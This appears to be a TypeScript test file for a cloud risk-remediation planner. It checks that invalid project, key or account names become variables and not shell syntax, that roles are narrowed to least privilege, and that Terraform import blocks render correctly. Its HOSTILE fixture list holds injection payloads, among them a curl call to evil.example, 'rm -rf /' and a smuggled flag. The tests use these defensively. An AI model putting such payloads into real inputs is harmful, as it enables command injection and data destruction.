/**
 * Risk plans put inventory values into commands only through the id validator: a project, account,
 * key or service name that is not a valid id of its kind becomes a named variable, never shell
 * syntax or a flag.
 */
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { test } from 'node:test';
import { buildRiskPlan, type RiskInput, type RiskWorkload } from '../../src/core/plan/risk.js';
import { renderPlan } from '../../src/core/render/index.js';
import { tempDir } from '../support/cli.js';

const HOSTILE = ['$(curl evil.example)', '--flags-file=/tmp/x', 'a"; rm -rf / #', '`id`'];

function workload(bad: string): RiskWorkload {
  return {
    kind: 'cloud-run',
    name: bad,
    region: bad,
    project: bad,
    targetProject: bad,
    location: 'global',
    model: 'gemini-2.5-flash',
  };
}

test('hostile inventory values become variables in every risk plan, and every script parses', () => {
  const dir = tempDir('risk-plans');
  for (const bad of HOSTILE) {
    const inputs: RiskInput[] = [
      { risk: 'risk.default_sa_editor', project: bad, account: bad, workloads: [workload(bad)] },
      {
        risk: 'risk.unrestricted_api_key',
        project: bad,
        keyId: bad,
        displayName: bad,
        apiTargets: [bad],
        applicationRestricted: false,
      },
      { risk: 'risk.shared_identity', identity: bad, services: 7, workload: workload(bad) },
      { risk: 'risk.primitive_role', identity: bad, role: bad, workload: workload(bad) },
    ];
    for (const input of inputs) {
      const plan = buildRiskPlan(input);
      assert.ok(plan.variables.length > 0, `${input.risk}: values became variables`);
      for (const target of ['gcloud', 'terraform', 'console', 'md'] as const) {
        const out = renderPlan(plan, target);
        // The value may appear in comments and prose (display name, note); never in a command.
        const commands = out
          .split('\n')
          .filter((l) => /(^|\s)(run |gcloud |curl )/.test(l) && !/^\s*#/.test(l));
        for (const c of commands) assert.ok(!c.includes(bad), `${input.risk} ${target}: ${c}`);
      }
      const file = join(dir, `${input.risk}-${HOSTILE.indexOf(bad)}.sh`);
      writeFileSync(file, renderPlan(plan, 'gcloud'));
      const r = spawnSync('bash', ['-n', file], { encoding: 'utf8' });
      assert.equal(r.status, 0, r.stderr);
    }
  }
});

test('valid inventory values are used as they are; the role is the least-privilege choice', () => {
  const plan = buildRiskPlan({
    risk: 'risk.primitive_role',
    identity: 'app@my-project.iam.gserviceaccount.com',
    role: 'roles/owner',
    workload: {
      ...workload('assistant-api'),
      region: 'us-central1',
      project: 'my-project',
      targetProject: 'ai-hub-1',
    },
  });
  assert.equal(plan.cause, 'risk.primitive_role');
  assert.equal(plan.code, undefined);
  assert.deepEqual(plan.variables, []);
  const [grant, , revoke] = plan.options[0]?.steps ?? [];
  assert.deepEqual(
    { kind: grant?.kind, role: grant && 'role' in grant ? grant.role : '' },
    { kind: 'grant_role', role: 'roles/aiplatform.user' },
  );
  assert.equal(revoke?.kind, 'revoke_role');
  assert.match(
    renderPlan(plan, 'gcloud'),
    /remove-iam-policy-binding \\?"ai-hub-1\\?" .*--role=\\?"roles\/owner\\?" --condition=None/,
  );
  assert.equal(plan.roleDecisions?.[0]?.chosen?.role, 'roles/aiplatform.user');
});

test('Terraform adopts a key whose id it may manage; a Console-made id starting with a digit gets the gcloud command', () => {
  const plan = (keyId: string) =>
    renderPlan(
      buildRiskPlan({
        risk: 'risk.unrestricted_api_key',
        project: 'my-project',
        keyId,
        displayName: 'Web key',
        apiTargets: [],
        applicationRestricted: false,
      }),
      'terraform',
    );
  assert.match(
    plan('web-key'),
    /import \{\n {2}to = google_apikeys_key\.key_web_key\n {2}id = "projects\/my-project\/locations\/global\/keys\/web-key"\n\}/,
  );
  const uuid = plan('0f5e1d2c-8a9b-4c3d-9e8f-7a6b5c4d3e2f');
  assert.doesNotMatch(uuid, /resource "google_apikeys_key"/);
  assert.match(
    uuid,
    /^# {3}gcloud services api-keys update "0f5e1d2c-8a9b-4c3d-9e8f-7a6b5c4d3e2f" --project="my-project" --location=global --api-target=service=generativelanguage\.googleapis\.com --allowed-referrers="\$\{ALLOWED_REFERRERS\}"$/m,
  );
});
